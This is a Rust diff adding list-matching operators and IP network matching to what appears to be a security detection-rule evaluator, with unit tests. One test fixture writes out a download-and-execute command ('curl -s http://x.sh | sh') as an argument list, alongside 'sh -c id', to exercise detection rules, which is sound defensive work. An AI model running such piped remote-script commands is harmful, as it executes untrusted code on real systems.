@@ -38,6 +38,46 @@ impl Evaluator {
 			Op::Gte => Self::numeric_cmp_compiled(left, &cond.value, |a, b| a >= b),
 			Op::Lt => Self::numeric_cmp_compiled(left, &cond.value, |a, b| a < b),
 			Op::Lte => Self::numeric_cmp_compiled(left, &cond.value, |a, b| a <= b),
+
+			Op::AnyContains => match (left, &cond.value) {
+				(Some(FieldValue::StringList(items)), FieldValue::String(b)) => {
+					items.iter().any(|a| a.contains(b.as_ref()))
+				}
+				_ => false,
+			},
+			Op::AnyRegex => match (left, &cond.value) {
+				(Some(FieldValue::StringList(items)), FieldValue::Regex(regex)) => {
+					items.iter().any(|text| regex.is_match(text))
+				}
+				_ => false,
+			},
+			Op::AnyIn => match (left, &cond.value) {
+				(Some(FieldValue::IntList(items)), FieldValue::IntSet(set)) => items.iter().any(|v| set.contains(v)),
+				(Some(FieldValue::IpList(items)), FieldValue::IpSet(set)) => {
+					items.iter().any(|v| set.iter().any(|net| net.contains(v)))
+				}
+				(Some(FieldValue::StringList(items)), FieldValue::StringSet(set)) => {
+					items.iter().any(|v| set.iter().any(|x| x == v))
+				}
+				_ => false,
+			},
+			// An empty list is vacuously contained in any set.
+			Op::AllIn => match (left, &cond.value) {
+				(Some(FieldValue::IntList(items)), FieldValue::IntSet(set)) => items.iter().all(|v| set.contains(v)),
+				(Some(FieldValue::IpList(items)), FieldValue::IpSet(set)) => {
+					items.iter().all(|v| set.iter().any(|net| net.contains(v)))
+				}
+				(Some(FieldValue::StringList(items)), FieldValue::StringSet(set)) => {
+					items.iter().all(|v| set.iter().any(|x| x == v))
+				}
+				_ => false,
+			},
+			Op::Len => match (left, &cond.value) {
+				(Some(FieldValue::IntList(items)), FieldValue::Int(n)) => items.len() as i64 == *n,
+				(Some(FieldValue::StringList(items)), FieldValue::Int(n)) => items.len() as i64 == *n,
+				(Some(FieldValue::IpList(items)), FieldValue::Int(n)) => items.len() as i64 == *n,
+				_ => false,
+			},
 		}
 	}
 
@@ -49,7 +89,7 @@ impl Evaluator {
 		match (left, right) {
 			(FieldValue::Int(v), FieldValue::IntSet(set)) => set.contains(v),
 			(FieldValue::String(v), FieldValue::StringSet(set)) => set.iter().any(|x| x == v),
-			(FieldValue::Ip(v), FieldValue::IpSet(set)) => set.contains(v),
+			(FieldValue::Ip(v), FieldValue::IpSet(set)) => set.iter().any(|net| net.contains(v)),
 			_ => false,
 		}
 	}
@@ -72,7 +112,9 @@ impl Evaluator {
 
 			(FieldValue::Bool(a), FieldValue::Bool(b)) => a == b,
 
-			(FieldValue::Ip(a), FieldValue::Ip(b)) => a == b,
+			(FieldValue::Ip(a), FieldValue::Ip(b)) => a.to_canonical() == b.to_canonical(),
+
+			(FieldValue::Ip(a), FieldValue::IpNet(net)) => net.contains(a),
 			_ => false,
 		}
 	}
@@ -199,6 +241,7 @@ mod tests {
 			id: "ok".into(),
 			description: "ok".into(),
 			severity: Severity::Info,
+			risk: 0,
 
 			conditions: vec![
 				compiled_cond("process.pid", "equals", Value::Integer(123))?,
@@ -206,6 +249,8 @@ mod tests {
 			],
 
 			sequence: None,
+			first_seen: None,
+			active: None,
 			response_chain: None,
 			required_mask: 0,
 		};
@@ -219,6 +264,7 @@ mod tests {
 			id: "fail".into(),
 			description: "fail".into(),
 			severity: Severity::Info,
+			risk: 0,
 
 			conditions: vec![
 				compiled_cond("process.pid", "equals", Value::Integer(123))?,
@@ -226,6 +272,8 @@ mod tests {
 			],
 
 			sequence: None,
+			first_seen: None,
+			active: None,
 			response_chain: None,
 			required_mask: 0,
 		};
@@ -245,6 +293,70 @@ mod tests {
 
 		Ok(())
 	}
+
+	fn list_cond(op: Op, value: FieldValue) -> CompiledCondition {
+		// no list field exists in the schema yet, so bypass compile-time validation
+		CompiledCondition {
+			field: Field::ProcessComm,
+			op,
+			value,
+		}
+	}
+
+	fn strings(items: &[&str]) -> Vec<std::sync::Arc<str>> {
+		items.iter().map(|s| (*s).into()).collect()
+	}
+
+	#[test]
+	fn eval_any_contains_and_any_regex() -> Result<()> {
+		// -- Setup & Fixtures
+		let args = FieldValue::StringList(strings(&["curl", "-s", "http://x.sh", "|", "sh"]));
+		let any_contains = list_cond(Op::AnyContains, FieldValue::String("http://".into()));
+		let any_regex = list_cond(Op::AnyRegex, FieldValue::Regex(regex::Regex::new(r"^(ba)?sh$")?.into()));
+		let miss = list_cond(Op::AnyContains, FieldValue::String("wget".into()));
+
+		// -- Exec & Check
+		assert!(Evaluator::eval_condition_compiled(Some(&args), &any_contains));
+		assert!(Evaluator::eval_condition_compiled(Some(&args), &any_regex));
+		assert!(!Evaluator::eval_condition_compiled(Some(&args), &miss));
+		assert!(!Evaluator::eval_condition_compiled(None, &any_contains));
+
+		Ok(())
+	}
+
+	#[test]
+	fn eval_any_in_and_all_in() -> Result<()> {
+		// -- Setup & Fixtures
+		let groups = FieldValue::IntList(vec![0, 4, 27]);
+		let any_in = list_cond(Op::AnyIn, FieldValue::IntSet(vec![27, 999]));
+		let all_in = list_cond(Op::AllIn, FieldValue::IntSet(vec![0, 4, 27, 100]));
+		let not_all_in = list_cond(Op::AllIn, FieldValue::IntSet(vec![0, 4]));
+		let empty = FieldValue::StringList(Vec::new());
+		let all_in_str = list_cond(Op::AllIn, FieldValue::StringSet(strings(&["a"])));
+
+		// -- Exec & Check
+		assert!(Evaluator::eval_condition_compiled(Some(&groups), &any_in));
+		assert!(Evaluator::eval_condition_compiled(Some(&groups), &all_in));
+		assert!(!Evaluator::eval_condition_compiled(Some(&groups), &not_all_in));
+		assert!(Evaluator::eval_condition_compiled(Some(&empty), &all_in_str));
+		assert!(!Evaluator::eval_condition_compiled(None, &all_in_str));
+
+		Ok(())
+	}
+
+	#[test]
+	fn eval_len() -> Result<()> {
+		// -- Setup & Fixtures
+		let args = FieldValue::StringList(strings(&["sh", "-c", "id"]));
+		let len3 = list_cond(Op::Len, FieldValue::Int(3));
+		let len2 = list_cond(Op::Len, FieldValue::Int(2));
+
+		// -- Exec & Check
+		assert!(Evaluator::eval_condition_compiled(Some(&args), &len3));
+		assert!(!Evaluator::eval_condition_compiled(Some(&args), &len2));
+
+		Ok(())
+	}
 }
 
 // endregion: --- Tests